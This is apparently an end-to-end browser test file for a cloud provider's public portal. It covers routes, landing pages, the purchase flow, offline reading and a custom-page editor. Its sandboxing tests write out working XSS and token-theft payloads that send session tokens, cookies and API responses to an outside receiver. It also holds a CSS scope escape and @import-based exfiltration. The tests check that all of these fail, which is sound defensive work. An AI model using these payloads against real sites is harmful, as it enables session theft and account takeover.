// The public portal (issue 14) at 820×1180 and 375×740: every public and portal route of the spec
// that this issue builds shows its own page (data-page, never 建设中) — visited once per viewport by
// client-side navigation; a visitor browses 全部产品 → a landing page, its sticky section menu and
// 选购 (signed out: to sign-in and back; signed in: the purchase page), goes offline and reopens the
// page and an article from their snapshots. Hostile templates (an <img onerror>, a javascript:
// link, <script>, and a script that tries the session, the API and an outside receiver) do nothing.
// Screenshots of the home, a landing page and an article at both sizes.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { staticDocUrl, STATIC_DOCS } from '../../src/domain/navigation/rules.ts';
import { DEMO_PASSWORD, launchBrowser, newContext, newPage, screenshot, signIn } from './browser.ts';
import { SPEC_ROUTES, waitForDataPage } from './shell-helpers.ts';

let browser: Browser;
const baseURL = inject('baseURL');

/** Built by other issues: the sign-in page, the user centre, the portal's account pages. */
const NOT_HERE = new Set(['login', 'userCenter', 'portal_portalAccountInfo', 'portal_portalHandlePhone']);
const OURS = SPEC_ROUTES.filter((r) => (r.area === 'public' || r.area === 'portal') && !r.redirect && !NOT_HERE.has(r.name));

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** Pushes each sample inside the app and waits for its data-page; reports any miss or 建设中. */
async function visitAll(page: Page): Promise<string[]> {
  return page.evaluate(
    async (list) => {
      const failures: string[] = [];
      for (const r of list) {
        window.history.pushState(null, '', r.sample);
        window.dispatchEvent(new PopStateEvent('popstate', { state: null }));
        const started = performance.now();
        let el: Element | null = null;
        while (!(el = document.querySelector(`[data-page="${CSS.escape(r.name)}"]`)) && performance.now() - started < 15_000)
          await new Promise((f) => setTimeout(f, 20));
        if (!el) failures.push(`${r.sample}: ${r.name} not shown (at ${location.pathname})`);
        else if (document.querySelector('[data-under-construction]')) failures.push(`${r.sample}: 建设中`);
        else if (document.querySelector('[data-page="not-found"]')) failures.push(`${r.sample}: not found`);
      }
      return failures;
    },
    OURS.map((r) => ({ sample: r.sample, name: r.name })),
  );
}

async function apiToken(account: string): Promise<string> {
  const res = await fetch(`${baseURL}/api/v1/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ account, password: DEMO_PASSWORD }),
  });
  const body = (await res.json()) as { token?: string; x_auth_token?: string };
  const token = body.token ?? body.x_auth_token ?? res.headers.get('x-auth-token');
  if (!token) throw new Error(`no token for ${account}`);
  return token;
}

async function createPage(token: string, page: Record<string, unknown>): Promise<string> {
  const res = await fetch(`${baseURL}/api/v1/customize_pages`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-auth-token': token },
    body: JSON.stringify({ kind: 'custom_page', css_code: '', data_json: {}, published: true, ...page }),
  });
  expect(res.status).toBe(201);
  return ((await res.json()) as { id: string }).id;
}

for (const viewport of ['tablet', 'phone'] as const) {
  describe(`public portal at ${viewport}`, () => {
    it(`every route of this issue shows its own page (${OURS.length} samples)`, async () => {
      const page = await newPage(browser, viewport);
      const errors: string[] = [];
      page.on('pageerror', (e) => errors.push(e.message));
      try {
        await page.goto(`${baseURL}/portal`);
        await waitForDataPage(page, 'portal');
        await screenshot(page, `portal-home-${viewport}`);
        expect(await visitAll(page)).toEqual([]);
        expect(errors).toEqual([]);
        // The static manuals the redirect routes lead to are real documents.
        for (const doc of Object.values(STATIC_DOCS)) {
          const res = await page.request.get(`${baseURL}${staticDocUrl(doc)}`);
          expect(res.status(), doc).toBe(200);
          expect(await res.text()).toContain('<h1>');
        }
      } finally {
        await page.context().close();
      }
    });

    it('browse to a landing page and its 选购, then read it and an article offline', async () => {
      const context = await newContext(browser, viewport, { serviceWorkers: 'allow' });
      const page = await context.newPage();
      page.setDefaultTimeout(20_000);
      try {
        await page.goto(`${baseURL}/allProducts`);
        await waitForDataPage(page, 'allProducts');
        await page.evaluate(async () => {
          await navigator.serviceWorker.ready;
        });
        await page.locator('[data-testid="product-card"]', { hasText: '裸金属服务器' }).click();
        await waitForDataPage(page, 'portal_bms');
        await expect.poll(() => page.locator('[data-testid="landing-title"]').textContent()).toBe('裸金属服务器');
        const menu = page.locator('[data-testid="section-menu"]');
        await expect.poll(() => menu.locator('button').first().textContent()).toBe('产品优势');
        expect(await page.locator('[data-section="specs"] .ys-spec__flavor').first().textContent()).toBe('2 核 4 GB');
        // The price calculator template runs in its sandboxed frame and sizes it to its content.
        await page.locator('[data-section="template"]').scrollIntoViewIfNeeded();
        await expect.poll(async () => (await page.locator('[data-testid="template-frame"]').boundingBox())?.height ?? 0).toBeGreaterThan(150);
        await screenshot(page, `landing-bms-${viewport}`);
        // Signed out, 选购 asks to sign in and comes back here.
        await page.locator('[data-testid="landing-buy"]').click();
        await waitForDataPage(page, 'login');
        expect(new URL(page.url()).searchParams.get('redirect')).toBe('/portal/bms');

        // An announcement, opened once.
        await page.goto(`${baseURL}/serviceAnnouncement`);
        await waitForDataPage(page, 'serviceAnnouncement');
        await page.locator('[data-testid="article-card"]').first().click();
        await waitForDataPage(page, 'serviceAnnouncementDetail');
        const title = (await page.locator('[data-testid="article-title"]').textContent()) ?? '';
        expect(title.length).toBeGreaterThan(4);
        await screenshot(page, `article-${viewport}`);
        const articleUrl = page.url();

        // Offline: both reopen from their snapshots (the service worker gives the app shell).
        await page.goto(`${baseURL}/portal/bms`);
        await waitForDataPage(page, 'portal_bms');
        await page.locator('[data-testid="landing-title"]').waitFor();
        await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
        await context.setOffline(true);
        await page.reload();
        await waitForDataPage(page, 'portal_bms');
        await expect.poll(() => page.locator('[data-testid="landing-title"]').textContent()).toBe('裸金属服务器');
        await page.locator('[data-testid="offline-copy"]').waitFor();
        await page.goto(articleUrl).catch(() => undefined);
        await waitForDataPage(page, 'serviceAnnouncementDetail');
        await expect.poll(() => page.locator('[data-testid="article-title"]').textContent()).toBe(title);
        await context.setOffline(false);
      } finally {
        await context.close();
      }
    });
  });
}

describe('选购 signed in, and hostile templates', () => {
  it('a signed-in user follows 选购 to the purchase page', async () => {
    const page = await newPage(browser, 'phone');
    try {
      await signIn(page, baseURL, 'tenant_admin');
      await page.goto(`${baseURL}/portal/bms`);
      await waitForDataPage(page, 'portal_bms');
      await page.locator('[data-testid="landing-buy"]').click();
      await waitForDataPage(page, 'bmsBuy');
    } finally {
      await page.context().close();
    }
  });

  it('a template cannot read the session, call the API or reach out; its links ask a visitor to sign in', async () => {
    // A receiver outside the site: any request reaching it would be a leak.
    const hits: string[] = [];
    const receiver = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
    const out = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
    const adminToken = await apiToken('admin');
    const hostileHtml = `<p id="hello">你好</p><img src="x" onerror="window.__pwned='img';fetch('${out}/img?'+localStorage.getItem('x_auth_token'))"><a id="jslink" href="javascript:window.__pwned='link'">点我</a><a id="inner" href="/portal/ebs">云硬盘</a><script>window.__pwned='script'</script>`;
    const inlineId = await createPage(adminToken, { name: '恶意页面一', html_code: hostileHtml, js_code: '' });
    const framedId = await createPage(adminToken, {
      name: '恶意页面二',
      html_code: '<p>框架内</p>',
      js_code: `
        var box = document.createElement('div'); box.style.height = '640px'; box.id = 'ran'; document.body.appendChild(box);
        var stolen = ''; try { stolen = localStorage.getItem('x_auth_token') || 'none'; } catch (e) { stolen = 'blocked'; }
        try { stolen += '|' + document.cookie; } catch (e) { stolen += '|cookie-blocked'; }
        try { window.parent.__pwned = 'frame'; } catch (e) {}
        try { window.parent.document.title = 'pwned'; } catch (e) {}
        try { window.top.localStorage.setItem('pwned', '1'); } catch (e) {}
        fetch('/api/v1/edit-user', { credentials: 'include' }).then(function (r) { return r.text(); }).then(function (t) { fetch('${out}/api?' + encodeURIComponent(t)); }).catch(function () {});
        fetch('${out}/steal?' + encodeURIComponent(stolen)).catch(function () {});
        new Image().src = '${out}/beacon?' + encodeURIComponent(stolen);
        try { navigator.sendBeacon('${out}/send', stolen); } catch (e) {}
        parent.postMessage({ type: 'ys-template-link', href: '/ecsManage' }, '*');
      `,
    });

    const page = await newPage(browser, 'phone');
    const apiFromFrames: string[] = [];
    page.on('request', (req) => {
      if (req.frame() !== page.mainFrame() && req.url().includes('/api/') && !req.url().endsWith('/api/v1/template-frame')) apiFromFrames.push(req.url());
    });
    try {
      await signIn(page, baseURL, 'tenant_admin');
      // Inline: sanitised — no handler, no script, no javascript: link; a signed-in tap on an inner link navigates.
      await page.goto(`${baseURL}/customPage?id=${inlineId}`);
      await waitForDataPage(page, 'customPage');
      await page.locator('#hello').waitFor();
      expect(await page.locator('[data-testid="template-inline"] img[onerror]').count()).toBe(0);
      expect(await page.locator('[data-testid="template-inline"] script').count()).toBe(0);
      expect(await page.locator('#jslink').getAttribute('href')).toBeNull();
      await page.locator('#jslink').click();
      // Framed: the script runs (the frame grows to its content) but reaches nothing.
      await page.goto(`${baseURL}/customPage?id=${framedId}`);
      await waitForDataPage(page, 'customPage');
      await expect.poll(async () => (await page.locator('[data-testid="template-frame"]').boundingBox())?.height ?? 0).toBeGreaterThan(600);
      expect(await page.locator('[data-testid="template-frame"]').getAttribute('sandbox')).toBe('allow-scripts');
      await page.waitForTimeout(1000); // give any leak the time to arrive (the assertions are about absence)
      expect(await page.evaluate(() => (window as Window & { __pwned?: string }).__pwned ?? null)).toBeNull();
      expect(await page.evaluate(() => localStorage.getItem('pwned'))).toBeNull();
      expect(await page.title()).not.toContain('pwned');
      expect(hits).toEqual([]);
      expect(apiFromFrames).toEqual([]);
      // The frame's message asking to navigate without a tap was ignored.
      expect(new URL(page.url()).pathname).toBe('/customPage');

      // Signed out, a template link asks to sign in and goes nowhere.
      await page.evaluate(() => localStorage.clear());
      await page.context().clearCookies();
      await page.goto(`${baseURL}/customPage?id=${inlineId}`);
      await page.locator('#inner').click();
      await page.getByText('请先登录后访问').first().waitFor();
      expect(new URL(page.url()).pathname).toBe('/customPage');
    } finally {
      await page.context().close();
      receiver.close();
    }
  });

  it('an administrator edits a custom page with a live preview', async () => {
    const page = await newPage(browser, 'tablet');
    try {
      await signIn(page, baseURL, 'admin');
      await page.goto(`${baseURL}/customPage`);
      await page.locator('[data-testid="template-editor"]').waitFor();
      await page.locator('[data-testid="editor-new"]').click();
      await page.locator('#tpl-name').fill('双十二活动页');
      await page.locator('#tpl-html_code').fill('<h2 class="t">{{ title }}</h2>');
      await page.locator('#tpl-css_code').fill('.t{color:rgb(192, 47, 52)}');
      await page.locator('#tpl-data').fill('{"title":"双十二上云节"}');
      const preview = page.locator('[data-testid="editor-preview"] h2.t');
      await expect.poll(() => preview.textContent()).toBe('双十二上云节');
      expect(await preview.evaluate((e) => getComputedStyle(e).color)).toBe('rgb(192, 47, 52)');
      await page.locator('[data-testid="editor-save"]').click();
      await page.getByText('已保存').waitFor();
      await screenshot(page, 'custom-page-editor-tablet');
    } finally {
      await page.context().close();
    }
  });
});

describe('a template’s CSS stays in its box (issue 27)', () => {
  it('saved or previewed, the scope escape never reaches the page and nothing loads from outside', async () => {
    const hits: string[] = [];
    const receiver = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
    const out = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
    const escape = '.t{color:rgb(192, 47, 52)} } body { background: rgb(255, 0, 0) !important } @scope (.nothing) { .x{color:red}';
    const adminToken = await apiToken('admin');
    const refused = await fetch(`${baseURL}/api/v1/customize_pages`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-auth-token': adminToken },
      body: JSON.stringify({
        kind: 'custom_page',
        name: '越界样式',
        html_code: '<p class="t">t</p>',
        css_code: escape,
        js_code: '',
        data_json: {},
        published: true,
      }),
    });
    expect(refused.status).toBe(400);
    const id = await createPage(adminToken, {
      name: '越界样式二',
      html_code: '<p class="t">盒内</p>',
      js_code: '',
      css_code: `@import url(${out}/import); .t { color: rgb(192, 47, 52); background: url(${out}/bg) } @font-face { font-family: f; src: url(${out}/font) } @layer x { body { background: rgb(255, 0, 0) } }`,
    });
    const page = await newPage(browser, 'tablet');
    const bodyBackground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    try {
      await page.goto(`${baseURL}/customPage?id=${id}`);
      await waitForDataPage(page, 'customPage');
      const inBox = page.locator('[data-testid="template-inline"] p.t');
      await expect.poll(() => inBox.evaluate((e) => getComputedStyle(e).color)).toBe('rgb(192, 47, 52)');
      expect(await bodyBackground()).not.toBe('rgb(255, 0, 0)');
      // The editor's preview of an unsaved draft: the browser's own parser refuses the escape.
      await signIn(page, baseURL, 'admin');
      await page.goto(`${baseURL}/customPage`);
      await page.locator('[data-testid="editor-new"]').click();
      await page.locator('#tpl-html_code').fill('<h2 class="t">预览</h2>');
      await page.locator('#tpl-css_code').fill(escape);
      await expect.poll(() => page.locator('[data-testid="editor-preview"] h2.t').textContent()).toBe('预览');
      expect(await bodyBackground()).not.toBe('rgb(255, 0, 0)');
      await page.waitForTimeout(500); // any request from the saved page's CSS would have arrived
      expect(hits).toEqual([]);
    } finally {
      await page.context().close();
      receiver.close();
    }
  });
});

describe('a landing page opened by its address (ADR 0033 addendum)', () => {
  for (const [locale, title] of [
    ['zh-CN', '裸金属服务器'],
    ['zh-TW', '裸機伺服器'],
  ] as const) {
    it(`renders whole from the data its HTML carries, without asking the API (${locale}, 375×740)`, async () => {
      const context = await newContext(browser, 'phone', { locale });
      const page = await context.newPage();
      const asked: string[] = [];
      page.on('request', (req) => {
        if (req.url().includes('/api/auto_product_details/')) asked.push(req.url());
      });
      const errors: string[] = [];
      page.on('pageerror', (err) => errors.push(err.message));
      try {
        await page.goto(`${baseURL}/portal/bms`);
        await waitForDataPage(page, 'portal_bms');
        await expect.poll(() => page.locator('[data-testid="landing-title"]').textContent()).toBe(title);
        expect(await page.locator('[data-section="specs"] .ys-spec__flavor').first().textContent()).toBe('2 核 4 GB');
        // The data block is taken once and removed.
        expect(await page.locator('script[type="application/json"][data-ys-early]').count()).toBe(0);
        // Another landing page inside the app asks the API as before.
        await page.evaluate(() => {
          window.history.pushState(null, '', '/portal/redis');
          window.dispatchEvent(new PopStateEvent('popstate', { state: null }));
        });
        await waitForDataPage(page, 'portal_redis');
        await expect.poll(() => asked.map((u) => new URL(u).pathname)).toEqual(['/api/auto_product_details/redis']);
        expect(errors).toEqual([]);
      } finally {
        await context.close();
      }
    });
  }
});
